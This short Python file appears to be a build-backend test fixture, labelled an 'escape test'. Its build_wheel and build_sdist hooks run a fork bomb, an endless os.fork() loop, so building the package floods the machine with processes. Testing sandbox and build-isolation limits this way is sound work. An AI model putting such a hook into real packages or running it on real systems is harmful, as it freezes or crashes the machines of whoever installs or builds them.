# SPDX-License-Identifier: Apache-2.0
"""Escape test: a fork bomb. Every process forks until fork() fails."""
import os


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    while True:
        os.fork()


def build_sdist(sdist_directory, config_settings=None):
    return build_wheel(sdist_directory, config_settings)
